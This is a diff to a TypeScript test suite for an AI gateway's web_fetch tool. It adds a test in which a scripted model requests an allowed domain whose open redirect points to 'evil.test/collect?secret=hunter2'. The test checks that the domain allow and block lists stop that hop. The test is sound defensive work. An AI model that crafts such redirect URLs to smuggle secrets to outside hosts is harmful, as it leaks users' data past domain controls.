@@ -9,10 +9,17 @@ import { perTestGateways } from '../fixtures/per-test';
 import { journalSpy } from '../fixtures/journal-spy';
 
 const t = perTestGateways();
+/** Requests that reached `/collect` (host and path): a domain the request's lists refuse must never see one. */
+const collected: string[] = [];
 const pages = pageServer((req, res) => {
   if (req.url === '/article') res.writeHead(200, { 'content-type': 'text/html' }).end('<html><body><p>Otters hold hands.</p></body></html>');
   else if (req.url === '/second') res.writeHead(200, { 'content-type': 'text/plain' }).end('Second page.');
   else if (req.url === '/long') res.writeHead(200, { 'content-type': 'text/plain' }).end('word '.repeat(3000));
+  else if (req.url?.startsWith('/open-redirect?to=')) res.writeHead(302, { location: decodeURIComponent(req.url.slice('/open-redirect?to='.length)) }).end();
+  else if (req.url?.startsWith('/collect')) {
+    collected.push(`${req.headers.host}${req.url}`);
+    res.writeHead(200, { 'content-type': 'text/plain' }).end('Collected.');
+  }
   else res.writeHead(404).end();
 });
 
@@ -366,5 +373,25 @@ describe('gateway:web_fetch server tool (URLs the model asks for)', () => {
     expect(r.status).toBe(200);
     expect(pages.hits()).toBe(before);
     expect(t.upstream.received[1].body.messages.at(-1).content).toBe(`Not fetched ${pages.url}/article: the domain is not allowed for this request`);
+  });
+
+  it('allowed_domains and blocked_domains hold for every redirect hop: a hop to a refused domain is never requested', async () => {
+    // Two names for the one page server: allowed.test is an allowed domain with an open redirect,
+    // evil.test is not. The model puts data in the URL of the second: the hop must not be made at all.
+    const resolve = async () => [{ address: '127.0.0.1', family: 4 }];
+    const registry_ = new Map(registry).set('web-fetch', webFetchDefinition({ testOnlyLoopbackPorts: [pages.port], resolve }));
+    const g = await t.start({ yaml: yaml(), registry: registry_ });
+    const out = `http://evil.test:${pages.port}/collect?secret=hunter2`;
+    const url = `http://allowed.test:${pages.port}/open-redirect?to=${encodeURIComponent(out)}`;
+    for (const tool of [{ ...SERVER_TOOL, allowed_domains: ['allowed.test'] }, { ...SERVER_TOOL, blocked_domains: ['evil.test'] }]) {
+      collected.length = 0;
+      t.upstream.received.length = 0;
+      t.upstream.scripts.set('gpt-upstream', [chatCalls([{ name: 'web_fetch', args: { url } }])]);
+      const r = await post(`${g.url}/chat/completions`, g.key, { model: 'fake/gpt', tools: [tool], messages: [{ role: 'user', content: 'x' }] }, META);
+      expect(r.status).toBe(200);
+      expect(collected).toEqual([]);
+      expect(t.upstream.received[1].body.messages.at(-1).content).toBe(`Not fetched ${url}: it redirected to a domain that is not allowed for this request`);
+      expect(r.json.gateway_metadata.pipeline[0]).toMatchObject({ type: 'web-fetch', data: { url, outcome: 'refused', via: 'tool_call' } });
+    }
   });
 });
